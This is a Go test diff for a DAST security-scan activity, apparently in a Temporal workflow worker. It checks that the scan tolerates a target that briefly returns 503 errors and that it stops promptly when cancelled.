+func (f *flappingDASTTarget) Ready(ctx context.Context, request SecurityScanRequest) error {
+	return f.call()
+}
+
+func (f *flappingDASTTarget) Probe(ctx context.Context, request SecurityScanRequest) error {
+	return f.call()
+}
+
+func (f *flappingDASTTarget) call() error {
+	f.calls++
+	if f.calls <= f.flaps {
+		return fmt.Errorf("target returned 503: %w", ErrDASTTargetUnavailable)
+	}
+	return nil
+}
+
+func TestRunDASTScan_ToleratesFlappingTarget(t *testing.T) {
+	tests := []struct {
+		name      string
+		tolerance int
+		wantErr   bool
+	}{
+		{"within the default tolerance", 0, false},
+		{"within a configured tolerance", 2, false},
+		{"beyond the tolerance", 1, true},
+		{"no tolerance", -1, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			a := &Activities{
+				DASTTarget:      &flappingDASTTarget{flaps: 2},
+				DASTFlapBackoff: time.Millisecond,
+			}
+
+			result, err := a.RunDASTScan(context.Background(), SecurityScanRequest{
+				RepositoryURL:         "https://github.com/example/repo",
+				DASTFlappingTolerance: tt.tolerance,
+			})
+
+			if tt.wantErr {
+				var appErr *temporal.ApplicationError
+				if !errors.As(err, &appErr) || appErr.Type() != DASTTargetUnavailableError {
+					t.Fatalf("Expected a %s error, got %v", DASTTargetUnavailableError, err)
+				}
+				return
+			}
+
+			if err != nil {
+				t.Fatalf("Expected the scan to ride out two flaps, got %v", err)
+			}
+
+			if result == nil || result.ScanType != "dast" {
+				t.Errorf("Expected a completed DAST result, got %+v", result)
+			}
+		})
+	}
+}
+
+func TestRunDASTScan_StopsWhenCancelled(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+
+	started := time.Now()
+	result, err := NewActivities(WorkerConfig{}).RunDASTScan(ctx, SecurityScanRequest{RepositoryURL: "https://github.com/example/repo"})
+
+	if !errors.Is(err, context.Canceled) {
+		t.Fatalf("Expected the cancelled scan to return context.Canceled, got %v", err)
+	}
+
+	if result != nil {
+		t.Errorf("Expected no result from a cancelled scan, got %+v", result)
+	}
+
+	if elapsed := time.Since(started); elapsed > time.Second {
+		t.Errorf("Expected the cancelled scan to stop promptly, took %s", elapsed)
+	}
+}